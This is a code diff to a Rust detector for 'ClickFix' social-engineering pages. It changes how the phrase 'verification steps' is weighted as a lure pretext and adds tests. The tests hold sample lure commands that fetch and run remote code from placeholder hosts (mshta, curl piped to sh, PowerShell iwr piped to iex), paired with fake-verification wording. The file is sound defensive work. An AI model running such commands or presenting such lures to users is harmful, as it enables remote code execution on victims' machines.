@@ -32,6 +32,9 @@ const PAD_BEFORE_COMMENT: usize = 20;
 const PAD_ANYWHERE: usize = 80;
 /// Bytes from a condition word ("if", "si") to the problem it makes hypothetical.
 const CONDITION_REACH: usize = 120;
+/// Weight of a verification word that names no human check ("verification steps",
+/// "verification id"): a pretext in a command's comment or next to a command no docs give.
+const GENERIC_VERIFY: f32 = 0.75;
 /// Bytes between an infection word and the reader's machine it is claimed about.
 const CLAIM_REACH: usize = 90;
 
@@ -568,7 +571,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
         raw.rfind(" #").map(|i| &raw[i + 2..]).unwrap_or("")
     };
     let comment_pretext =
-        !comment.is_empty() && pretext_weight(&normalize(comment).skel, None) >= 1.0;
+        !comment.is_empty() && pretext_weight(&normalize(comment).skel, None) >= GENERIC_VERIFY;
     Some(Command {
         shapes,
         padded: padding.is_some(),
@@ -770,7 +773,9 @@ impl PageHits {
     /// missing update or file to open, no infection or system screen.
     fn documents_install(&self, command: &Command) -> bool {
         let framed = self.weight(Cat::InstallDocs) >= 1.0 || self.shows(command);
-        let verify = self.of(Cat::VerifyHuman).next().is_some();
+        // "Verification steps" alone is how docs say "check the download"; with "captcha" or
+        // a human check it is the lure's.
+        let verify = self.weight(Cat::VerifyHuman) >= 1.0;
         framed && !verify && self.story().next().is_none()
     }
 
@@ -937,11 +942,17 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
     let run_dialog = page.weight(Cat::RunDialog) >= 1.0;
     let terminal = page.weight(Cat::RunTerminal) >= 1.0;
     let paste = page.weight(Cat::PasteStep) >= 1.0;
-    let page_pretext = page
+    // A human check ("verify you are human") is a pretext next to any command; a bare
+    // "verification steps" (weighted [`GENERIC_VERIFY`]) only next to one no install page gives:
+    // docs write it about checking a download.
+    let verify = page
         .of(Cat::VerifyHuman)
         .map(|h| h.weight)
-        .fold(0.0f32, f32::max)
-        >= 1.0;
+        .fold(0.0f32, f32::max);
+    // With a CAPTCHA named next to it, "verification steps" is the check's own.
+    let page_pretext = verify >= 1.0
+        || verify >= GENERIC_VERIFY
+            && (page.weight(Cat::VerifyHuman) >= 1.0 || !command.install_like(&page.site));
     // Install docs send people to PowerShell (Admin), the Run box or Terminal too ("press Win+X,
     // choose Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they
     // are documentation; a lure always adds its story (verify, fix, update, open the file).
@@ -1483,6 +1494,39 @@ mod tests {
         ] {
             assert!(judged(clip, text), "{text}");
         }
+    }
+
+    #[test]
+    fn verification_steps_alone_is_docs_wording() {
+        // Docs write "verification steps" about checking a download.
+        let sh = "curl -fsSL https://get.example.test/install.sh | sh";
+        assert!(!judged(
+            sh,
+            "Open Terminal, paste and press Return.\nVerification steps: run tool --version."
+        ));
+        assert!(!judged(
+            "irm https://get.example.test/install.ps1 | iex",
+            "Installation: press Win + X, choose Terminal (Admin), paste and press Enter.\n\
+             Étapes de vérification : lancez tool --version."
+        ));
+        // Next to a command no docs give, with a CAPTCHA named, or as a command's own comment,
+        // it is the lure's check.
+        assert!(judged(
+            "mshta https://x.example/c",
+            "Complete the verification steps below"
+        ));
+        assert!(judged(
+            sh,
+            "reCAPTCHA verification steps: open Terminal, paste, Return."
+        ));
+        assert!(judged(
+            "curl -fsSL http://x.example/i | sh",
+            "Verification steps: open Terminal, paste, Return."
+        ));
+        assert!(judged(
+            "powershell -c \"iwr https://x.example/a | iex\" # Verification ID: 5550142",
+            "Paste it"
+        ));
     }
 
     #[test]
